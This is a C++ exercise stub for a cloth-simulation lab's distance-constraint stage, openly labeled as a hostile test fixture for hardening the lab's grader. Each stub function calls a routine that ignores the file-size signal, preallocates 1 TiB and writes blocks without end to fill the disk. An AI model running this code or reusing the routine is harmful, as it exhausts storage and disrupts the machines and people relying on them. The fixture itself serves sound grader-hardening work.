// Stage 04 — the distance constraint.
// Task sheet: exercises/04_distance/README.md
// Formulas and argument units: framework/include/clothlab/exercise/04_distance.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 04
//
// HOSTILE FIXTURE huge_file (attack class 8: resource exhaustion).
// The tested function ignores SIGXFSZ, posix_fallocate()s 1 TiB and then writes 1 MiB blocks without end into the current directory, /tmp and next to its binary, to fill the disk.
// The hardened grader must give this file 0 points on stage 04.
#include <cmath>

#include "clothlab/core/not_implemented.h"
#include "clothlab/exercise/04_distance.h"
#include <csignal>
#include <cstdio>
#include <cstring>
#include <string>
#include <fcntl.h>
#include <unistd.h>

// WARNING: never run this fixture outside the grader's sandbox (it is built to hurt the machine).

namespace {
void hostileFill() {
    std::signal(SIGXFSZ, SIG_IGN);  // the file-size limit then gives EFBIG instead of killing
    static char block[1 << 20];
    std::memset(block, 0x5a, sizeof block);
    char exe[4096];
    const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    const std::string beside = n > 0 ? std::string(exe, static_cast<std::size_t>(n)) + ".huge" : "huge.bin";
    for (const std::string path : {std::string("clothlab-hostile-huge.bin"), std::string("/tmp/clothlab-hostile-huge.bin"), beside}) {
        const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd < 0) continue;
        posix_fallocate(fd, 0, static_cast<off_t>(1) << 40);  // 1 TiB in one call
        while (write(fd, block, sizeof block) > 0) {}
        close(fd);
    }
}
}  // namespace

namespace clothlab {

// ---- Task 4.1: the cost function ----------------------------------------------
double distanceConstraint(const Vec3& p1, const Vec3& p2, double d) {
    // TODO 4.1: C = |p1 - p2| - d.
    (void)p1; (void)p2; (void)d;
    hostileFill();
    throw NotImplemented("exercise 4.1 distanceConstraint");
}

// ---- Task 4.2: its gradient -----------------------------------------------------
Vec3 distanceGradient(const Vec3& p1, const Vec3& p2) {
    // TODO 4.2: n = (p1 - p2) / |p1 - p2|; Vec3::Zero() when |p1 - p2| < 1e-12.
    (void)p1; (void)p2;
    hostileFill();
    throw NotImplemented("exercise 4.2 distanceGradient");
}

// ---- Task 4.3: the projection ----------------------------------------------------
DistanceCorrection projectDistanceConstraint(const Vec3& p1, const Vec3& p2, double w1, double w2, double d,
                                             double k) {
    // TODO 4.3: dp1 = -w1/(w1+w2) C n k,  dp2 = +w2/(w1+w2) C n k  with C and n as in 4.1 and 4.2.
    //           Zero corrections when w1 + w2 = 0 or the points coincide (never NaN).
    (void)p1; (void)p2; (void)w1; (void)w2; (void)d; (void)k;
    hostileFill();
    throw NotImplemented("exercise 4.3 projectDistanceConstraint");
}

}  // namespace clothlab
